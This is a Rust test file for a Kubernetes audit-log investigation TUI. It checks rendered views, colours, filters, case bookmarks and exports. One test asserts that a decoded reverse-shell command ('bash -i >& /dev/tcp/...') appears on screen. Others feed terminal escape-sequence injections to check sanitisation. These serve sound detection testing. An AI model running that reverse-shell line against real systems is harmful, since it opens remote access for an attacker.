//! The workbench's views on the sample logs, drawn into a test backend at a fixed size:
//! insta snapshots of each view, and style checks where colour carries meaning.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::workbench::{act, typed};
use common::{repo, sample_index};
use kubesift::CaseStore;
use kubesift::tui::keymap::Keymap;
use kubesift::tui::worker::Engine;
use kubesift::tui::{Action, App};
use ratatui::style::{Color, Modifier};

const W: u16 = 160;
const H: u16 = 40;

/// An app on the sample index, with its engine, as the workbench starts.
fn start() -> (App, Engine) {
    common::workbench::start(sample_index(), (W, H))
}

/// The screen as text, with the checkout's path (which differs between machines) shown
/// as `[repo]` and each such line re-padded to its drawn width, so snapshots do not
/// depend on where the repository is cloned.
fn screen(app: &App) -> String {
    let s = kubesift::tui::render_to_string(app, &Keymap::builtin(), W, H);
    let root = repo().canonicalize().unwrap().display().to_string();
    s.lines()
        .map(|line| {
            let Some(at) = line.find(&root) else {
                return line.to_string();
            };
            let width = line.chars().count();
            let mut out = format!("{}[repo]{}", &line[..at], &line[at + root.len()..]);
            let shrink = width.saturating_sub(out.chars().count());
            if let Some(border) = out.rfind('│').filter(|&b| b > at) {
                out.insert_str(border, &" ".repeat(shrink));
            }
            out
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn select_finding(app: &mut App, engine: &mut Engine, rule: &str) {
    let i = app.findings.iter().position(|f| f.rule_id == rule).unwrap();
    act(app, engine, &[Action::Top]);
    for _ in 0..i {
        act(app, engine, &[Action::Down]);
    }
}

#[test]
fn detections_view() {
    let (mut app, mut engine) = start();
    select_finding(&mut app, &mut engine, "KS-EXEC-REVERSE-SHELL");
    insta::assert_snapshot!(screen(&app));
}

#[test]
fn events_view_of_everything_and_of_a_finding() {
    let (mut app, mut engine) = start();
    act(
        &mut app,
        &mut engine,
        &[Action::ViewEvents, Action::PageDown],
    );
    insta::assert_snapshot!("events_all", screen(&app));
    let (mut app, mut engine) = start();
    select_finding(&mut app, &mut engine, "KS-SECRET-READ-BURST");
    act(&mut app, &mut engine, &[Action::Open]);
    insta::assert_snapshot!("events_of_finding", screen(&app));
}

#[test]
fn detail_view_shows_the_decoded_command() {
    let (mut app, mut engine) = start();
    select_finding(&mut app, &mut engine, "KS-EXEC-REVERSE-SHELL");
    act(&mut app, &mut engine, &[Action::Open, Action::Open]);
    let s = screen(&app);
    assert!(
        s.contains("bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
        "{s}"
    );
    insta::assert_snapshot!(s);
}

#[test]
fn regression_detail_lines_longer_than_the_pane_were_cut_without_a_sign() {
    let (mut app, mut engine) = start();
    select_finding(&mut app, &mut engine, "KS-EXEC-REVERSE-SHELL");
    act(&mut app, &mut engine, &[Action::Open, Action::Open]);
    let s = screen(&app);
    let uri = s
        .lines()
        .find(|l| l.contains("uri decoded"))
        .expect("the decoded URI's line");
    assert!(
        uri.trim_end_matches([' ', '│']).ends_with('…'),
        "{uri}\n{s}"
    );
}

#[test]
fn pivots_and_timeline_views() {
    let (mut app, mut engine) = start();
    act(&mut app, &mut engine, &[Action::ViewPivots]);
    insta::assert_snapshot!("pivots", screen(&app));
    act(&mut app, &mut engine, &[Action::ViewTimeline]);
    for _ in 0..40 {
        act(&mut app, &mut engine, &[Action::Right]);
    }
    insta::assert_snapshot!("timeline", screen(&app));
}

#[test]
fn overlays_help_menu_and_input_error() {
    let (mut app, mut engine) = start();
    act(&mut app, &mut engine, &[Action::Help]);
    insta::assert_snapshot!("help", screen(&app));
    let (mut app, mut engine) = start();
    act(
        &mut app,
        &mut engine,
        &[Action::ViewEvents, Action::PivotMenu],
    );
    insta::assert_snapshot!("pivot_menu", screen(&app));
    let (mut app, mut engine) = start();
    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Filter]);
    for c in "ip:10.0.0.300".chars() {
        act(&mut app, &mut engine, &[Action::Char(c)]);
    }
    act(&mut app, &mut engine, &[Action::Submit]);
    let s = screen(&app);
    assert!(s.contains("is not an IP address"), "{s}");
    insta::assert_snapshot!("filter_error", s);
}

#[test]
fn pivoting_to_an_account_and_back() {
    let (mut app, mut engine) = start();
    select_finding(&mut app, &mut engine, "KS-EXEC-REVERSE-SHELL");
    act(
        &mut app,
        &mut engine,
        &[Action::Open, Action::PivotMenu, Action::Open],
    );
    let total = app.events.total.unwrap();
    assert!(total > 100, "every event of the account: {total}");
    assert_eq!(
        app.filter.chips[0].label,
        "user:system:serviceaccount:shop:web"
    );
    act(&mut app, &mut engine, &[Action::PivotBack]);
    assert_eq!(app.events.total, Some(1), "back to the finding's events");
}

#[test]
fn colour_carries_severity_matches_and_findings() {
    let (app, _) = start();
    let buf = kubesift::tui::render_to_buffer(&app, &Keymap::builtin(), W, H);
    // The severity column of the findings table starts at x = 3.
    let find = |text: &str| -> (u16, u16) {
        for y in 0..H {
            let cell: String = (3..3 + u16::try_from(text.len()).unwrap())
                .map(|x| buf[(x, y)].symbol().to_owned())
                .collect();
            if cell == text {
                return (3, y);
            }
        }
        panic!("{text} not on screen");
    };
    let (x, y) = find("critical");
    assert_eq!(buf[(x, y)].fg, Color::Red);
    assert!(buf[(x, y)].modifier.contains(Modifier::BOLD));
    let (x, y) = find("high ");
    assert_eq!(buf[(x, y)].fg, Color::LightRed);

    // Search matches are highlighted (magenta) and finding members marked (● in red).
    let (mut app, mut engine) = start();
    act(&mut app, &mut engine, &[Action::ViewEvents, Action::Search]);
    for c in "verb:list".chars() {
        act(&mut app, &mut engine, &[Action::Char(c)]);
    }
    act(&mut app, &mut engine, &[Action::Submit]);
    let buf = kubesift::tui::render_to_buffer(&app, &Keymap::builtin(), W, H);
    let matched_rows = (0..H)
        .filter(|&y| {
            (0..W).any(|x| buf[(x, y)].fg == Color::Magenta && buf[(x, y)].symbol() == "l")
        })
        .count();
    assert!(matched_rows > 0, "no highlighted match");
    act(
        &mut app,
        &mut engine,
        &[Action::Cancel, Action::ViewDetections, Action::Open],
    );
    let buf = kubesift::tui::render_to_buffer(&app, &Keymap::builtin(), W, H);
    let marker = (4..H)
        .flat_map(|y| (0..W).map(move |x| (x, y)))
        .find(|&(x, y)| buf[(x, y)].symbol() == "●")
        .unwrap();
    assert_eq!(buf[marker].fg, Color::Red);
}

#[test]
fn log_strings_never_reach_the_terminal_raw() {
    let (mut app, mut engine) = start();
    act(&mut app, &mut engine, &[Action::ViewEvents]);
    // A filter with an escape sequence: shown escaped in the breadcrumb.
    act(&mut app, &mut engine, &[Action::Filter]);
    for c in "name:\"x\u{1b}[2Jy\"".chars() {
        act(&mut app, &mut engine, &[Action::Char(c)]);
    }
    act(&mut app, &mut engine, &[Action::Submit]);
    let s = screen(&app);
    assert!(!s.contains('\u{1b}'), "raw escape on screen");
    assert!(s.contains("\\x1b[2J"), "{s}");
}

#[test]
fn regression_loading_a_deeply_nested_saved_filter_is_an_error_not_an_abort() {
    let (mut app, mut engine) = start();
    let mut case = kubesift::Case::default();
    let nots = format!("{}verb:get", "NOT ".repeat(500));
    case.filters.insert("deep".into(), nots);
    let title = "wide\u{1b}]0;pwned\u{7}";
    case.filters.insert(title.into(), "(".repeat(10_000));
    app.set_case(Ok(case));
    act(&mut app, &mut engine, &[Action::ViewEvents]);
    let before = app.filter.clone();
    for name in ["deep", title] {
        act(&mut app, &mut engine, &[Action::Command]);
        typed(&mut app, &mut engine, &format!("load {name}"));
        act(&mut app, &mut engine, &[Action::Submit]);
        assert!(
            app.status.starts_with(&format!(
                "error: saved filter `{name}` is not a valid query"
            )),
            "{}",
            app.status
        );
        assert!(
            app.status.contains("nests more than 64 levels"),
            "{}",
            app.status
        );
        assert_eq!(app.filter, before, "the filter in effect is kept");
        assert!(app.input.is_none());
        let s = screen(&app);
        let status = s.lines().rev().find(|l| !l.trim().is_empty()).unwrap();
        assert!(status.contains("error: saved filter `"), "{s}");
        assert!(!s.contains('\u{1b}') && !s.contains('\u{7}'), "{s}");
    }
    assert!(screen(&app).contains("wide\\x1b]0;pwned\\x07"));

    // 64 levels, the most a query may nest, run through the index on a thread with the
    // default 2 MiB stack (as the worker's); 32 NOTs cancel out: the `get`s.
    let ok64 = format!("{}verb:get{}", "(NOT ".repeat(32), ")".repeat(32));
    let mut case = app.case.clone();
    case.filters.insert("ok64".into(), ok64);
    app.set_case(Ok(case));
    act(&mut app, &mut engine, &[Action::Command]);
    typed(&mut app, &mut engine, "load ok64");
    let total = std::thread::spawn(move || {
        act(&mut app, &mut engine, &[Action::Submit]);
        assert!(!app.status.starts_with("error"), "{}", app.status);
        app.events.total
    })
    .join()
    .unwrap();
    assert!(total.is_some_and(|n| n > 0), "{total:?}");
}

#[test]
fn case_marks_tags_notes_and_exports_from_the_workbench() {
    let (mut app, mut engine) = start();
    let dir = tempfile::tempdir().unwrap();
    let case_file = dir.path().join("case.json");
    app.case_file = Some(case_file.display().to_string());
    select_finding(&mut app, &mut engine, "KS-EXEC-REVERSE-SHELL");
    act(&mut app, &mut engine, &[Action::Open, Action::ToggleMark]);
    act(&mut app, &mut engine, &[Action::Tag]);
    typed(&mut app, &mut engine, "reverse-shell, c2");
    act(&mut app, &mut engine, &[Action::Submit, Action::Note]);
    typed(
        &mut app,
        &mut engine,
        "attacker shell from 198.51.100.77\nsee the CSR next",
    );
    act(&mut app, &mut engine, &[Action::Submit]);
    // A second bookmark from the whole events list, then the Case view.
    act(
        &mut app,
        &mut engine,
        &[
            Action::ClearFilters,
            Action::Top,
            Action::Down,
            Action::ToggleMark,
        ],
    );
    assert_eq!(app.case.events.len(), 2, "{}", app.status);
    act(&mut app, &mut engine, &[Action::ViewCase]);
    let s = screen(&app);
    let s: String = s
        .lines()
        .map(|l| match l.find("bookmarked 20") {
            Some(i) => format!("{}bookmarked [time]", &l[..i]),
            None => l.to_owned(),
        })
        .collect::<Vec<_>>()
        .join("\n");
    insta::assert_snapshot!("case_view", s);

    // What was saved is on disk, atomically written, and reloads the same.
    let on_disk = CaseStore::new(&case_file).load().unwrap();
    assert_eq!(on_disk, app.case);
    let shell = on_disk
        .events
        .values()
        .find(|b| b.tags == ["reverse-shell", "c2"])
        .unwrap();
    assert_eq!(
        shell.note,
        "attacker shell from 198.51.100.77\nsee the CSR next"
    );

    // The export dialog: HTML of the case to a file.
    let out = dir.path().join("case.html");
    act(&mut app, &mut engine, &[Action::Export]);
    let d = app.export.as_ref().unwrap();
    assert_eq!(d.format().as_str(), "html");
    let erase = vec![Action::Backspace; d.path.text().chars().count()];
    act(&mut app, &mut engine, &erase);
    typed(&mut app, &mut engine, &out.display().to_string());
    act(&mut app, &mut engine, &[Action::Submit]);
    assert!(app.export.is_none(), "dialog closed after writing");
    assert!(
        app.status.starts_with("exported 2 events"),
        "{}",
        app.status
    );
    let html = std::fs::read_to_string(&out).unwrap();
    assert!(html.contains("reverse-shell<br>c2") && html.contains("<svg"));

    // Again to the same file, in Markdown: the file it replaces is said; the next dialog
    // opens on Markdown (it was replaced silently, and the dialog went back to HTML).
    act(&mut app, &mut engine, &[Action::Export]);
    let erase = vec![Action::Backspace; app.export.as_ref().unwrap().path.text().chars().count()];
    act(&mut app, &mut engine, &erase);
    typed(&mut app, &mut engine, &out.display().to_string());
    // The typed `.html` name picked HTML; Markdown is chosen after it (as a script would).
    let d = app.export.as_mut().unwrap();
    assert_eq!(d.format().as_str(), "html");
    d.format = kubesift::export::ExportFormat::ALL
        .iter()
        .position(|f| f.as_str() == "markdown")
        .unwrap();
    act(&mut app, &mut engine, &[Action::Submit]);
    assert!(
        app.status.ends_with("(replacing the file that was there)"),
        "{}",
        app.status
    );
    act(&mut app, &mut engine, &[Action::Export]);
    assert_eq!(app.export.as_ref().unwrap().format().as_str(), "markdown");
    act(&mut app, &mut engine, &[Action::Cancel]);
    assert!(app.export.is_none());

    // Unmark from the Case view.
    act(&mut app, &mut engine, &[Action::Top, Action::ToggleMark]);
    assert_eq!(CaseStore::new(&case_file).load().unwrap().events.len(), 1);
}
